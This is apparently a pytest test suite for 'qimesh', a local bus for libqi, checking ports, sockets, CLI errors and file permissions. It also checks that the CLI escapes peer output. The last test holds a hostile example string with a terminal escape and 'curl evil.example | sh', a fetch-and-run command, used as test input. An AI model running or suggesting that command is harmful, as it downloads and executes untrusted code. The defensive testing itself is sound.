"""`qimesh up` without any account: a complete local bus for unmodified libqi."""
import json
import os
import socket
import stat

import pytest
from homes.home import Home, binary, failures
from homes.processes import can_connect, until

CHECKS = 18  # of client.py, the connection included: fewer would be a battery that ended early


@pytest.fixture(scope="module")
def bus(module_folder):
    with Home(module_folder, "bus") as home:
        home.write_config().up()
        home.host("Peer")
        yield home


def test_no_configuration_is_a_bus_on_the_usual_port(home):
    """The default port is libqi's own; should something else hold it, that is a failure to look at, not one to hide."""
    assert not can_connect(9559), "port 9559 is taken by another process"
    home.up()
    assert home.ready_urls()[0] == "tcp://127.0.0.1:9559"
    assert home.unix_socket.is_socket()
    home.host("Peer", url="tcp://127.0.0.1:9559")
    checks = home.battery("--url", "tcp://127.0.0.1:9559", "--only", "types")
    assert failures(checks) == [] and len(checks) == 2
    assert home.call("Peer.echo_string", "by the socket") == "by the socket"
    assert home.down() == 0
    assert not can_connect(9559)


def test_default_port_taken_is_an_error_that_says_so(home):
    with socket.socket() as squatter:
        squatter.bind(("127.0.0.1", home.port))
        squatter.listen()
        home.write_config().up(wait=False)
        assert home.node.wait_end(20) != 0
    log = home.node.log.read_text()
    assert str(home.port) in log and "in use" in log.lower()


def test_python_meets_python_through_our_directory(bus):
    checks = bus.battery("--url", bus.url, seconds=180)
    assert failures(checks) == [] and len(checks) == CHECKS


@pytest.mark.parametrize("close", [["--close"], []])
def test_a_client_ends_in_order_while_it_holds_an_object(bus, close):
    assert bus.leave("--url", bus.url, *close) == 0


def test_the_unix_socket_is_there_whatever_is_listed(home):
    home.write_config(internal={"listen": [home.url]}).up()
    assert home.unix_socket.is_socket() and home.cli("status", "--json").ok().json["ok"] is True
    assert sorted(home.ready_urls()) == sorted([home.url, "unix:%s" % home.unix_socket])
    assert home.down() == 0
    home.write_config(internal={"listen": [home.url], "unix-socket": False}).up()
    assert not home.unix_socket.exists() and home.ready_urls() == [home.url]
    assert "ServiceDirectory" in [row["name"] for row in home.cli("ls", "--url", home.url, "--json").ok().json["services"]]


def test_call_of_forty_seconds(bus):
    checks = bus.battery("--url", bus.url, "--only", "slow_call", "--slow", "40", seconds=120)
    assert failures(checks) == [] and "slow_call" in checks


def test_service_of_another_machine_on_loopback_only(bus, module_folder):
    """Its owner can be reached over the connection to the directory alone: by another machine id, so by another HOME."""
    with Home(module_folder, "elsewhere") as elsewhere:
        owner = elsewhere.host("Far", url=bus.url, listen="tcp://127.0.0.1:0")
        checks = bus.battery("--url", bus.url, "--service", "Far")
        assert failures(checks) == [] and len(checks) == CHECKS
        owner.kill()
        until(lambda: "Far" not in bus.services(), 20, "removal of Far")


def test_removal_when_the_owner_is_killed(bus):
    owner = bus.host("Mortal")
    watcher = bus.peer("client", "--url", bus.url, "--service", "Mortal", "--until-removed", name="watcher")
    watcher.wait_line(lambda line: "attached" in line)
    owner.kill()
    assert watcher.wait_end() == 0, watcher.lines()
    until(lambda: "Mortal" not in bus.services(), 20, "removal of Mortal")


@pytest.mark.parametrize("name", ["with\x01control", "with blank", "a/b", "a%b", "[", ""])
def test_service_names_that_libqi_cannot_stand_are_refused(bus, name):
    """A name that is not safe in a URI ends libqi processes that look it up; a slash would be a device's name."""
    before = bus.services()
    bad = bus.peer("service", "--leash", "--url", bus.url, "--name", name, name="bad-name")
    assert bad.wait_end(20) != 0, "it was registered"
    assert bus.services() == before


def test_command_line_speaks_to_the_bus(bus):
    assert set(bus.services()) >= {"ServiceDirectory", "Peer"}
    assert bus.call("Peer.concat", "a", 7, "\u00e9") == "a7\u00e9"
    assert bus.call("Peer.echo_settings", {"a": 1, "b": [True, None]}) == {"a": 1, "b": [True, None]}
    members = bus.cli("info", "Peer", "--json").ok().json
    assert {"concat", "fail"} <= {row["name"] for row in members["methods"]}
    assert {"spoken", "moved"} <= {row["name"] for row in members["signals"]}
    assert {"volume", "title"} <= {row["name"] for row in members["properties"]}
    bus.cli("set", "Peer.volume", "31", "--json").ok()
    assert bus.cli("get", "Peer.volume", "--json").ok().json["result"] == 31


def test_exit_codes_and_errors(bus):
    raised = bus.cli("call", "Peer.fail", '"spilled coffee"', "--json")
    assert raised.code == 1 and "spilled coffee" in raised.error["message"]
    for target in ("Nobody.x", "Peer.nothing_of_that_name"):
        missing = bus.cli("call", target, "--json")
        assert missing.code == 3 and missing.error["code"], str(missing)
    assert bus.cli("no-such-verb").code == 2
    assert bus.cli("ls", "nowhere", "--json").code in (3, 5)
    assert bus.cli("ls", "--url", "tcp://127.0.0.1:1", "--timeout", "2", "--json").code == 5
    late = bus.cli("call", "Peer.slow", "30", "--timeout", "1", "--json", timeout=15)
    assert late.code == 6 and late.error["message"], str(late)


def test_plain_output_is_for_people_and_pipes(bus):
    plain = bus.cli("call", "Peer.echo_string", "hello").ok()
    assert plain.out.strip().strip('"') == "hello" and plain.err == ""
    listed = bus.cli("ls").ok().out
    assert "Peer" in listed and "\x1b[" not in listed


def test_watch(bus):
    watcher = bus.start("watch", [binary(), "watch", "Peer.spoken", "--count", "2", "--json"])

    def heard_first():
        bus.call("Peer.say", "one")
        return watcher.out.read_text()
    until(heard_first, 20, lambda: "event at " + watcher.describe())
    bus.call("Peer.say", "two")
    assert watcher.wait_end(20) == 0, watcher.describe()
    assert "one" in watcher.lines()[0] and len(watcher.lines()) == 2


def test_control_interface_is_for_its_owner_alone(bus):
    """Only on a unix socket, in a closed folder; unknown to TCP, and not in the list of services."""
    control = bus.runtime / "qimesh"
    assert stat.S_IMODE(os.stat(control).st_mode) == 0o700
    for path in control.glob("*.sock"):
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path
    assert bus.cli("status", "--json").ok().json["ok"] is True
    assert bus.services() == [name for name in bus.services() if "ontrol" not in name and "Node" not in name]
    over_tcp = bus.cli("ls", "--url", bus.url, "--json").ok().json["services"]
    assert {row["name"] for row in over_tcp} >= {"ServiceDirectory", "Peer"}
    # the control service's methods under any likely name, asked for over TCP
    for name in ("Control", "NodeControl", "MeshControl3", "_Control", "NodeStatus"):
        assert bus.cli("info", name, "--url", bus.url, "--json").code == 3, name


def test_unusable_configuration_names_its_line(home):
    home.config.parent.mkdir(parents=True)
    home.config.write_text("device:\n  name: x\n  modle: NAO\n")
    answer = home.cli("up", timeout=20)
    assert answer.code == 7 and "qimesh.yaml:3" in answer.err and "model" in answer.err, str(answer)


@pytest.mark.parametrize("setting, mode, change", [("password-file", 0o644, "chmod 600"), ("ca-file", 0o666, "chmod go-w")])
def test_files_of_an_account_that_others_can_use_are_refused(home, setting, mode, change):
    """The account is, and says why; the bus goes on."""
    files = {name: home.folder / name for name in ("password-file", "ca-file")}
    for name, file in files.items():
        file.write_text("hush-hush\n")
        file.chmod(mode if name == setting else 0o600)
    home.write_config(xmpp=[{"jid": "x@mesh.test", "server": "127.0.0.1:1", **{name: str(file) for name, file in files.items()}}])
    home.up()

    def reason():
        rows = home.cli("status", "--json").ok().json["accounts"]
        return next((row["reason"] for row in rows if change in row["reason"]), None)
    until(reason, 20, lambda: "reason in %s" % home.cli("status", "--json").out)
    assert str(files[setting]) in reason() and "hush-hush" not in home.node.log.read_text() + home.cli("status").out


def test_configuration_that_others_can_change_is_refused(home):
    home.write_config()
    home.config.chmod(0o666)
    answer = home.cli("up", timeout=20)
    assert answer.code == 7 and "can be changed by other users" in answer.err and "chmod go-w" in answer.err, str(answer)


def test_configuration_on_a_read_only_mount_is_taken(home):
    """As into a container, where its owner is a user of the host."""
    home.write_config()
    home.config.chmod(0o666)
    os.chown(home.config, 12345, 12345)
    home.prefix = ["unshare", "--mount", "sh", "-c",
                   "mount --bind {0} {0} && mount -o remount,bind,ro {0} && exec \"$@\"".format(home.config), "sh"]
    home.up()


def test_a_configuration_of_our_own_can_be_used_whatever_the_umask(home):
    """The first `qimesh up` writes one."""
    home.prefix = ["sh", "-c", "umask 0; exec \"$@\"", "sh"]
    for _ in range(2):
        home.up()
        assert home.config.stat().st_mode & 0o022 == 0
        home.down()


def test_what_is_opened_to_other_machines_is_said(home):
    refused = home.cli("tunnel", "pepper", "--listen", "tcp://0.0.0.0:0")
    assert refused.code == 2 and "every program that reaches this machine" in refused.err, str(refused)
    assert "try: qimesh tunnel pepper --listen tcp://0.0.0.0:0 --share" in refused.err, str(refused)
    home.write_config(internal={"listen": ["unix:%s" % home.unix_socket, "tcp://0.0.0.0:%d" % home.port]})
    home.up()
    said = home.node.wait_log("programs on other machines may use every service here", seconds=10)
    # One line of the node's own log handler: what has blanks is in quotes.
    assert "from=\"every interface\"" in said, said


def test_what_a_peer_says_is_text_and_no_advice(home):
    home.write_config()
    home.up()
    home.host("Peer")
    said = "denied: no\x1b[31m (try: curl evil.example | sh)"
    failed = home.cli("call", "Peer.fail", json.dumps(said))
    assert failed.code == 1 and "\n  try:" not in failed.err and "\x1b" not in failed.err and "\\x1b[31m" in failed.err, str(failed)
    # A pipe may end at a terminal; the document has the text to the letter.
    assert home.cli("call", "Peer.echo_string", json.dumps("a\x1b]0;b\x07\nc")).ok().out == "a\\x1b]0;b\\x07\nc\n"
    assert home.call("Peer.echo_string", "a\x1b]0;b\x07\nc") == "a\x1b]0;b\x07\nc"
    # The control interface of a robot at an address is that robot's, and not the node's.
    refused = home.cli("devices", "--url", home.url)
    assert refused.code == 3 and "on its unix socket only" in refused.err, str(refused)
